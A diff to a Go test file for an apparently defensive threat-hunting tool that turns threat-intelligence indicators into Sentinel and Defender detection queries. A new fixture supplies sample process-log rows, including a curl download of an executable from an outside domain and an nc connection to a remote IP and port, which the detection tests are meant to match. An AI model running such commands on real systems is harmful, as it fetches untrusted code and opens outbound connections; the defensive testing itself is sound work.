@@ -20,9 +20,9 @@ import (
 	"foxhound/rule"
 )
 
-func newByTable(t *testing.T, f indicator.Family, list []indicator.Indicator, form rule.Form) *rule.Rule {
+func newByTable(t *testing.T, list []indicator.Indicator, form rule.Form) *rule.Rule {
 	t.Helper()
-	r, err := rule.ByTable(f, list, form, export.Alias(rule.AllFamilies), rule.Options{Dialect: schema.Sentinel, Style: rule.Exact})
+	r, err := rule.ByTable(list, form, rule.Options{Dialect: schema.Sentinel, Style: rule.Exact, List: rule.List{Alias: export.Alias(rule.AllFamilies)}})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -32,7 +32,7 @@ func newByTable(t *testing.T, f indicator.Family, list []indicator.Indicator, fo
 // The text of hunts by table does not depend on the indicators, and fits.
 func TestByTable(t *testing.T) {
 	for _, form := range []rule.Form{rule.Watchlist, rule.Workspace} {
-		r, none := newByTable(t, indicator.Family{}, remusIndicators(t), form), newByTable(t, indicator.Family{}, nil, form)
+		r, none := newByTable(t, remusIndicators(t), form), newByTable(t, nil, form)
 		if len(r.Hunts) < 12 || len(r.Hunts) > 20 || len(r.Hunts) != len(none.Hunts) {
 			t.Errorf("%s: %d hunts, %d without indicators; about a dozen are wanted", form, len(r.Hunts), len(none.Hunts))
 		}
@@ -58,11 +58,12 @@ func TestByTableRefuses(t *testing.T) {
 		opts rule.Options
 	}{
 		{rule.Full, rule.Options{Dialect: schema.Sentinel, Style: rule.Exact}},
+		{rule.External, rule.Options{Dialect: schema.Sentinel, Style: rule.Exact}},
 		{rule.Watchlist, rule.Options{Dialect: schema.Defender, Style: rule.Exact}},
 		{rule.Watchlist, rule.Options{Dialect: schema.Sentinel, Style: rule.Classic}},
 		{rule.Watchlist, rule.Options{}},
 	} {
-		if _, err := rule.ByTable(indicator.Family{}, nil, tt.form, "x", tt.opts); err == nil {
+		if _, err := rule.ByTable(nil, tt.form, tt.opts); err == nil {
 			t.Errorf("form %s, options %+v: no error", tt.form, tt.opts)
 		}
 	}
@@ -74,7 +75,7 @@ func TestByTableFindsWhatFamiliesFind(t *testing.T) {
 	dir := t.TempDir()
 	own := newRule(t, remus, remusIndicators(t), schema.Sentinel, rule.Exact)
 	for _, form := range []rule.Form{rule.Watchlist, rule.Workspace} {
-		all := newByTable(t, indicator.Family{}, remusIndicators(t), form)
+		all := newByTable(t, remusIndicators(t), form)
 		e := engineWith(t, dir, all)
 		found := 0
 		for i := range all.Hunts {
@@ -102,6 +103,57 @@ func TestByTableFindsWhatFamiliesFind(t *testing.T) {
 	}
 }
 
+// A family that has too many indicators for its hunts is found by a list as it would be by the
+// hunts that carry it, row by row, free text included.
+func TestMovedFindsWhatCarriedFinds(t *testing.T) {
+	list := append(remusIndicators(t), manyIndicators(t, 120)...)
+	for _, at := range []struct {
+		dialect schema.Dialect
+		form    rule.Form
+	}{{schema.Sentinel, rule.Watchlist}, {schema.Defender, rule.External}} {
+		own := newRule(t, remus, list, at.dialect, rule.Exact)
+		opts := own.Options
+		opts.List = rule.List{Alias: export.Alias(rule.AllFamilies), Address: address}
+		moved, err := rule.Fit(remus, list, opts)
+		if err != nil {
+			t.Fatal(err)
+		}
+		e := engineWith(t, t.TempDir(), moved)
+		there, here := map[string][]sighting{}, map[string][]sighting{}
+		for i := range own.Hunts {
+			h := &own.Hunts[i]
+			key := h.Table + " " + string(h.Key)
+			there[key] = append(there[key], rowsOf(t, e, h.Text)...)
+		}
+		found, text := 0, 0
+		for i := range moved.Hunts {
+			h := &moved.Hunts[i]
+			key := h.Table + " " + string(h.Key)
+			if here[key] != nil || h.Form != at.form || there[key] == nil && len(rowsOf(t, e, h.Text)) > 0 {
+				t.Errorf("%s: %s of form %s, want one hunt of %s", at.dialect, h.Name, h.Form, at.form)
+			}
+			here[key] = rowsOf(t, e, h.Text)
+			for _, row := range here[key] {
+				found++
+				if !typed(h.Table, row.field) {
+					text++
+				}
+				if !slices.Contains(there[key], row) {
+					t.Errorf("%s, %s: found by the list alone: %+v", at.dialect, h.Name, row)
+				}
+			}
+			for _, row := range there[key] {
+				if !slices.Contains(here[key], row) {
+					t.Errorf("%s, %s: not found: %+v", at.dialect, h.Name, row)
+				}
+			}
+		}
+		if found < 5 || text == 0 {
+			t.Errorf("%s: %d rows found, %d of them in free text: too few to compare", at.dialect, found, text)
+		}
+	}
+}
+
 // A sighting is what a row says.
 type sighting struct {
 	at, tier, direction, verdict, validity, value, observed, field, family string
@@ -120,6 +172,11 @@ func typed(table, field string) bool {
 	return slices.ContainsFunc(roles.Of(table).Columns, func(c roles.Column) bool { return c.Field() == field && c.Holds != roles.FreeText })
 }
 
+// commandLines show indicators in free text.
+const commandLines = `{"Type":"DeviceProcessEvents","TimeGenerated":"2026-06-01T10:00:00Z","Timestamp":"2026-06-01T10:00:00Z","DeviceName":"ws1","ProcessCommandLine":"curl -o a.exe https://cdn.softandtec.com/a"}
+{"Type":"DeviceProcessEvents","TimeGenerated":"2026-06-01T10:01:00Z","Timestamp":"2026-06-01T10:01:00Z","DeviceName":"ws1","ProcessCommandLine":"nc 80.211.47.159:7582"}
+`
+
 // engineWith runs queries over the example's logs, a watchlist and a table of indicators.
 func engineWith(t *testing.T, dir string, r *rule.Rule) *query.Engine {
 	t.Helper()
@@ -134,11 +191,15 @@ func engineWith(t *testing.T, dir string, r *rule.Rule) *query.Engine {
 	if err := os.WriteFile(table, indicatorRows(t, r.Indicators), 0o666); err != nil {
 		t.Fatal(err)
 	}
-	sources, err := logs.Find([]string{"../examples/remus/logs", table})
+	commands := filepath.Join(dir, "commands.ndjson")
+	if err := os.WriteFile(commands, []byte(commandLines), 0o666); err != nil {
+		t.Fatal(err)
+	}
+	sources, err := logs.Find([]string{"../examples/remus/logs", table, commands})
 	if err != nil {
 		t.Fatal(err)
 	}
-	l := &query.Logs{Sources: sources, Dialect: schema.Sentinel, Data: map[string]string{export.Alias(rule.AllFamilies): list},
+	l := &query.Logs{Sources: sources, Dialect: r.Options.Dialect, Data: map[string]string{export.Alias(rule.AllFamilies): list, address: list},
 		Options: logs.Options{Tables: []logs.TableGlob{{Table: "ThreatIntelIndicators", Glob: "indicators.ndjson"}}}}
 	return &query.Engine{Tables: l, Source: l, StandIn: l.StandIn, Now: time.Date(2026, 12, 1, 0, 0, 0, 0, time.UTC)}
 }
@@ -196,7 +257,7 @@ func rowsOf(t *testing.T, e *query.Engine, text string) []sighting {
 		for at, c := range q.Columns() {
 			said[c.Name] = fmt.Sprint(b.Columns[at].Value(i))
 		}
-		list[i] = sighting{said["TimeGenerated"], said["Tier"], said["Direction"], said["Verdict"], said["Validity"],
+		list[i] = sighting{said["TimeGenerated"] + said["Timestamp"], said["Tier"], said["Direction"], said["Verdict"], said["Validity"],
 			said["IndicatorValue"], said["Observed"], said["Field"], said["Family"]}
 	}
 	return list
